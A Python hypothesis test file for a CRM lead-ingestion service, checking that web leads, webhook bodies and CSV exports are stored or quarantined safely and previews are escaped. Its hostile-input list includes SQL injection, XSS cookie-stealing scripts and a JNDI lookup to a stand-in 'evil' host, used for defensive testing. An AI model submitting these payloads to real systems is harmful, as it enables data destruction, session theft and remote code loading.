"""Hostile and broken input into every parser (hypothesis): never a crash; every record ends
as a valid row or a quarantined one with a reason; SQL injection strings and scripts stored
verbatim and rendered escaped; huge, deeply nested and wrongly encoded input bounded."""

from __future__ import annotations

import itertools
import json
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlalchemy import select

from assets.metadata import markdown_table
from hub.ingest.site import WEBHOOK_SOURCE, accept_webhook, sync_csv_dir, sync_webhook_inbox
from hub.leads import lead_preview, write_web_leads
from hub.store.db import session_scope
from hub.store.models import Lead, QuarantineRecord, WebhookInbox
from hub.store.quarantine import MAX_RAW_CHARS, raw_text

HOSTILE_TEXT = [
    "Robert'); DROP TABLE crm_leads;--",
    "' OR '1'='1",
    '1; UPDATE crm_reps SET active=0 WHERE "1"="1',
    "<script>alert(document.cookie)</script>",
    "<img src=x onerror=alert(1)>",
    "| col | injected |\n|---|---|",
    "[click](javascript:alert(1))",
    "${jndi:ldap://evil/x}",
    "{{7*7}}",
    "Иван\x00Петров",
    "\u202eevil\u202c",
    "😀" * 50,
]

PROFILE = settings(
    max_examples=40,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)

_batch_numbers = itertools.count()

text_values = st.one_of(
    st.sampled_from(HOSTILE_TEXT),
    st.text(max_size=60),
    st.text(alphabet=st.characters(codec="utf-8"), min_size=0, max_size=30),
)
json_scalars = st.one_of(st.none(), st.booleans(), st.integers(), st.floats(allow_nan=True), text_values)
json_values = st.recursive(
    json_scalars,
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=8), inner, max_size=3),
    max_leaves=8,
)
phones = st.one_of(
    st.sampled_from(["+7 916 123-45-67", "8 (916) 123 45 67", "+48 601 234 567", "12", "+7", ""]),
    text_values,
)
emails = st.one_of(st.sampled_from(["a@b.ru", "x@", "@y.ru", "ANNA@MAIL.RU "]), text_values)
times = st.one_of(
    st.sampled_from(["2026-11-20T10:00:00Z", "2026-11-20 10:00", "вчера", "9999-99-99", ""]),
    st.datetimes().map(lambda d: d.isoformat()),
    text_values,
)
lead_like = st.fixed_dictionaries(
    {},
    optional={
        "name": text_values,
        "phone": phones,
        "email": emails,
        "message": text_values,
        "company": text_values,
        "utm_source": text_values,
        "page_url": text_values,
        "submitted_at": times,
        "extra": json_values,
    },
)


def _records(draw_leads: list[dict[str, Any]], junk: list[Any]) -> list[Any]:
    """Leads with distinct ids (so each has its own outcome) mixed with non-objects."""
    records: list[Any] = [{"id": f"p{n}", **lead} for n, lead in enumerate(draw_leads)]
    return records + junk


def _outcomes(database_url: str, source: str) -> tuple[dict[str, Lead], list[QuarantineRecord]]:
    with session_scope(database_url) as session:
        leads = {
            lead.source_ref: lead
            for lead in session.scalars(select(Lead).where(Lead.source_system == source))
        }
        held = list(session.scalars(select(QuarantineRecord).where(QuarantineRecord.source == source)))
    return leads, held


@PROFILE
@given(
    leads=st.lists(lead_like, max_size=6),
    junk=st.lists(json_values.filter(lambda v: not isinstance(v, dict)), max_size=2),
)
def test_web_leads_end_as_a_row_or_a_reason(
    store_url: str, leads: list[dict[str, Any]], junk: list[Any]
) -> None:
    source = f"prop{next(_batch_numbers)}"
    records = _records(leads, junk)
    with session_scope(store_url) as session:
        stats = write_web_leads(session, source, records, "RU")
    stored, held = _outcomes(store_url, source)
    held_raw = {q.raw: q for q in held}
    for record in records:
        if isinstance(record, dict) and record["id"] in stored:
            row = stored[record["id"]]
            for field in ("name", "message", "company"):
                value = record.get(field)
                if isinstance(value, str) and value.replace("\x00", "").strip():
                    # Verbatim, never "cleaned" of SQL or scripts; only NUL (no text) is dropped.
                    assert getattr(row, field) == value.replace("\x00", "").strip()
        else:
            reason = held_raw[raw_text(record)[:MAX_RAW_CHARS]].error
            assert reason.strip()
    assert stats.written + stats.quarantined == len(records)


@PROFILE
@given(value=st.sampled_from(HOSTILE_TEXT) | st.text(max_size=200))
def test_markdown_previews_escape_what_they_show(value: str) -> None:
    row = {"ref": value, "phone": "+7916*****67", "note": value}
    rendered = markdown_table([row]).value
    body = rendered.split("\n")[2:]
    assert len(body) == 1  # one line per row: no injected rows or headers
    assert body[0].count("|") - body[0].count("\\|") == 4  # only the table's own cell borders
    assert "<script" not in rendered.lower() and "<img" not in rendered.lower()
    assert "javascript:" not in rendered.lower().replace("javascript&#58;", "")


def test_lead_preview_masks_personal_data() -> None:
    row = {
        "source_ref": "web-1",
        "phone_e164": "+79161234567",
        "email": "anna.petrova@mail.ru",
        "channel": "direct",
        "submitted_at": "2026-11-20",
    }
    rendered = markdown_table([lead_preview(row)]).value
    assert "79161234567" not in rendered and "anna.petrova" not in rendered
    assert "+7********67" in rendered and "a***@mail.ru" in rendered


@PROFILE
@given(
    body=st.one_of(
        st.binary(max_size=300),
        json_values.map(lambda v: json.dumps(v).encode()),
        st.lists(lead_like, max_size=3).map(lambda ls: json.dumps({"leads": ls}).encode()),
        lead_like.map(
            lambda lead: json.dumps({"id": "w", **lead}, ensure_ascii=False).encode("cp1251", "replace")
        ),
    )
)
def test_webhook_bodies_are_processed_or_quarantined(sqlite_store: str, body: bytes) -> None:
    # A timestamp of its own: hypothesis repeats bodies, and a repeated (timestamp, body) is a replay.
    inbox_id = accept_webhook(sqlite_store, body, {}, next(_batch_numbers))
    sync_webhook_inbox(sqlite_store, "RU")
    with session_scope(sqlite_store) as session:
        post = session.get(WebhookInbox, inbox_id)
        assert post is not None and post.processed_at is not None  # never left to block the inbox


@pytest.mark.parametrize(
    "body",
    [
        pytest.param(b"[" * 60_000 + b"]" * 60_000, id="deeply-nested-list"),
        pytest.param(b'{"a":' * 30_000 + b"1" + b"}" * 30_000, id="deeply-nested-object"),
        pytest.param(b'{"leads": [' + b'{"id": "x"},' * 5000 + b"{}]}", id="many-records"),
        pytest.param(b"\xff\xfe\x00{\x00}", id="utf16-bom"),
        pytest.param(
            json.dumps({"id": "w", "name": "Ж" * 500_000, "phone": "+79161234567"}).encode(), id="huge-field"
        ),
    ],
)
def test_nested_huge_and_misencoded_webhook_bodies_are_bounded(sqlite_store: str, body: bytes) -> None:
    inbox_id = accept_webhook(sqlite_store, body, {}, len(body))
    sync_webhook_inbox(sqlite_store, "RU")
    with session_scope(sqlite_store) as session:
        post = session.get(WebhookInbox, inbox_id)
        assert post is not None and post.processed_at is not None
        held = list(
            session.scalars(select(QuarantineRecord).where(QuarantineRecord.source == WEBHOOK_SOURCE))
        )
    assert held and all(len(q.raw) <= MAX_RAW_CHARS and q.error for q in held)


@PROFILE
@given(
    rows=st.lists(st.lists(text_values, min_size=0, max_size=5), max_size=5),
    encoding=st.sampled_from(["utf-8", "utf-8-sig", "cp1251", "utf-16"]),
    delimiter=st.sampled_from([",", ";", "\t"]),
)
def test_csv_exports_never_crash_the_import(
    sqlite_store: str,
    tmp_path_factory: pytest.TempPathFactory,
    rows: list[list[str]],
    encoding: str,
    delimiter: str,
) -> None:
    folder = tmp_path_factory.mktemp("csv")
    header = delimiter.join(["Имя", "Телефон", "E-mail", "Дата", "Сообщение"])
    lines = [header] + [delimiter.join(cell.replace("\n", " ") for cell in row) for row in rows]
    (folder / "export.csv").write_bytes("\r\n".join(lines).encode(encoding, errors="replace"))
    stats = sync_csv_dir(sqlite_store, folder, "RU")
    assert stats.rows_in == stats.written + stats.unchanged + stats.quarantined


def test_csv_with_a_huge_cell_is_bounded(sqlite_store: str, tmp_path: Path) -> None:
    """A cell beyond the csv module's field limit must not stop the import of the rest."""
    folder = tmp_path / "csv"
    folder.mkdir()
    huge = "x" * 200_000
    (folder / "export.csv").write_text(
        f"name,phone,date\nАнна,+79161234567,2026-11-20T10:00:00Z\nBig,{huge},2026-11-20T10:01:00Z\n"
        "Олег,+79161234568,2026-11-20T10:02:00Z\n",
        encoding="utf-8",
    )
    stats = sync_csv_dir(sqlite_store, folder, "RU")
    assert stats.written == 2 and stats.quarantined == 1
